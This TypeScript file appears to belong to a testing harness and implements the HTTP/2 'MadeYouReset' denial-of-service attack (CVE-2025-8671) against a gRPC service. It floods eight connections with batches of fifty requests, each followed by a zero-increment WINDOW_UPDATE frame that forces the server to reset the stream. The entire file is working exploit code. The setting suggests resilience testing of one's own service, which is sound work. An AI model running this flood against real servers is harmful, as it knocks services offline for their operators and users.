/** CVE-2025-8671: requests followed by a frame for which the server must reset the stream itself. */
import { type Attack, enveloped, flags, flood, frame, grpcBlock, Peer, type, uint32 } from '../wire.ts';

const requestsPerWrite = 50;
const block = grpcBlock('/leasehold.v1.JobsService/ListJobs');
const message = enveloped(Buffer.alloc(0));

export const madeYouReset: Attack = {
  name: 'made-you-reset',
  about: 'gRPC requests that the server must reset',
  run: ({ grpc }, signal) =>
    flood(
      8,
      signal,
      () => Peer.openHttp2(grpc),
      async (peer) => {
        const frames: Buffer[] = [];
        for (let i = 0; i < requestsPerWrite; i++) {
          const stream = peer.nextStream();
          frames.push(
            frame(type.headers, flags.endHeaders, stream, block),
            frame(type.data, flags.endStream, stream, message),
            // A window may not grow by nothing.
            frame(type.windowUpdate, flags.none, stream, uint32(0)),
          );
        }
        await peer.write(Buffer.concat(frames));
        return requestsPerWrite;
      },
    ),
};
